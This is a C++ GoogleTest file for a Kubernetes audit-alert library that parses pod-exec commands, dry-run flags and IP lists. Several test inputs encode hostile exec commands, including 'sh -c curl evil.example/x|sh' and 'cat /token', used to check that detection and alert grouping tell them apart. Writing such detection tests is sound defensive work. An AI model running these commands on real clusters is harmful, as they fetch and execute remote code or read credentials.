// SPDX-License-Identifier: Apache-2.0
#include "schemas/request.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "schemas/address.h"
#include "schemas/shape.h"

namespace gyre::schemas {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

constexpr const char* kExec = "/api/v1/namespaces/a/pods/b/exec?";

std::string shape_of_uri(const std::string& uri, const std::string& as = "") {
  Alert alert;
  alert.source = "k8s_audit";
  alert.rule = "r";
  alert.fields = {{"ka.user.name", "alice"}, {"ka.impuser.name", as},
                  {"ka.verb", "create"},     {"ka.target.resource", "pods"},
                  {"ka.uri", uri},           {"ka.uri.param[command]", "sh"}};
  return shape_of(alert);
}

TEST(Request, SaysItsWholeCommand) {
  const std::string exec = kExec;
  EXPECT_EQ(command_of_uri(exec + "command=sh&command=-c&command=curl+evil.example%2Fx%7Csh&tty=1"),
            "sh -c curl evil.example/x|sh");
  EXPECT_EQ(command_of_uri(exec + "container=web&command=ls"), "ls");
  EXPECT_EQ(command_of_uri(exec + "commands=ls"), "");
  EXPECT_EQ(command_of_uri("/api/v1/pods"), "");
  EXPECT_EQ(command_of_uri(exec + "command=%zz%4"), "%zz%4") << "as it stands";
}

TEST(Request, KeepsAllButTheCommandThatIsChanged) {
  const std::string uri = std::string(kExec) + "stdin=1&command=a&command=b%20c&tty=1";
  EXPECT_EQ(with_command(uri, [](std::string_view text) { return std::string(text); }), uri);
  EXPECT_EQ(with_command(uri, [](std::string_view) { return std::string("x\t<redacted>"); }),
            std::string(kExec) + "stdin=1&command=x&command=<redacted>&tty=1");
}

TEST(Request, IsADryRunOnlyWhereItsParameterSaysSo) {
  EXPECT_TRUE(is_dry_run("/apis/x/v1/roles?dryRun=All"));
  EXPECT_TRUE(is_dry_run("/apis/x/v1/roles?fieldManager=k&dryRun=All"));
  for (const char* uri : {"/apis/x/v1/roles?dryRun=", "/apis/x/v1/roles", "/apis/dryRun=All",
                          "/apis/x/v1/roles?xdryRun=All"})
    EXPECT_FALSE(is_dry_run(uri)) << uri;
}

TEST(Request, IsPartOfTheShapeInAllThatItDoes) {
  const std::string exec = std::string(kExec) + "command=sh&command=-c&command=";
  EXPECT_NE(shape_of_uri(exec + "curl+evil.example%7Csh"), shape_of_uri(exec + "cat+%2Ftoken"));
  EXPECT_THAT(shape_of_uri(exec + "id"), HasSubstr(R"(command="sh -c id")"));
  EXPECT_THAT(shape_of_uri("/api/v1/pods"), HasSubstr("command=sh")) << "all that is known";
  EXPECT_NE(shape_of_uri("/api/v1/pods?dryRun=All"), shape_of_uri("/api/v1/pods"));
  EXPECT_NE(shape_of_uri("/api/v1/pods", "system:admin"), shape_of_uri("/api/v1/pods"));
}

TEST(Addresses, AreTakenOutOfAListHoweverItIsPrinted) {
  for (const char* list : {"8.8.8.8, 203.0.113.9", "(8.8.8.8,203.0.113.9)",
                           "[\"8.8.8.8\",\"203.0.113.9\"]", "8.8.8.8 unknown 203.0.113.9"})
    EXPECT_THAT(addresses_in(list), ElementsAre("8.8.8.8", "203.0.113.9")) << list;
  EXPECT_THAT(addresses_in("2001:db8::1"), ElementsAre("2001:db8::1"));
  EXPECT_THAT(addresses_in("evil 8.8.8.8x"), IsEmpty());
}

}  // namespace
}  // namespace gyre::schemas
